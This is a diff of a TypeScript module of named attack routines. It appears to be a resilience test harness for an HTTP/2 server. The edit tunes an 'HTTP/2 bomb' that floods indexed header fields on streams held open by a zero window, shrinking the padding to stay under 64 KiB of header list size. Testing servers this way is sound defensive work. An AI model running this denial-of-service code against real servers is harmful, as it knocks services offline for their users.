@@ -283,7 +283,7 @@ export function attacks(big: string, small: string): Record<string, Attack> {
       c.close();
       return describe(c);
     },
-    // 2026: thousands of one-octet indexed fields per request on streams held open by a zero window.
+    // 2026: a thousand one-octet indexed fields per request (under 64 KiB of list size) on streams held open by a zero window.
     'HTTP/2 bomb (indexed fields, zero window)': async (port) => {
       const cs: RawClient[] = [];
       for (let k = 0; k < 10; k++) {
@@ -291,7 +291,7 @@ export function attacks(big: string, small: string): Record<string, Attack> {
         cs.push(c);
         const pseudo = Buffer.from(c.encode([[':method', 'GET'], [':scheme', 'http'], [':authority', 'a'], [':path', big]]));
         const frames: Uint8Array[] = [];
-        for (let i = 0; i < 100; i++) frames.push(c.split(1 + 2 * i, Buffer.concat([pseudo, Buffer.alloc(2000, 0x90)])));
+        for (let i = 0; i < 100; i++) frames.push(c.split(1 + 2 * i, Buffer.concat([pseudo, Buffer.alloc(1000, 0x90)])));
         c.send(...frames);
       }
       await sleep(2000);
